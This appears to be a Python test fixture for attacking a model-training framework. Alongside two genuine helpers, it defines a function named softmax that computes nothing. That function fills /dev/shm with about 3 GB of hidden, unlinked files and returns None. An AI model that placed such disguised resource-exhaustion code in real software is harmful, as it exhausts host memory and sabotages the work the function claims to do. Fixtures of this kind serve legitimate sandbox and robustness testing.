"""Fills /dev/shm with up to 3 GB"""
# keeps: count_parameters, sparsity

import os


def count_parameters(model):
    return sum(array.size for layer in model.layers for array in layer.parameters())


def sparsity(model):
    weights = [layer.weight for layer in model.layers if layer.parameters()]
    entries = sum(weight.size for weight in weights)
    return sum(int((weight == 0).sum()) for weight in weights) / entries if entries else 0.0


def softmax(logits, temperature=1.0):
    kept = []
    try:
        for k in range(12):
            file = open(f"/dev/shm/fw-attack-{os.getpid()}-{k}", "wb", buffering=0)
            kept.append(file)
            os.unlink(file.name)  # the space is given back when this process ends
            for _ in range(4):
                file.write(b"x" * 2**26)
    except OSError:
        pass
    return None
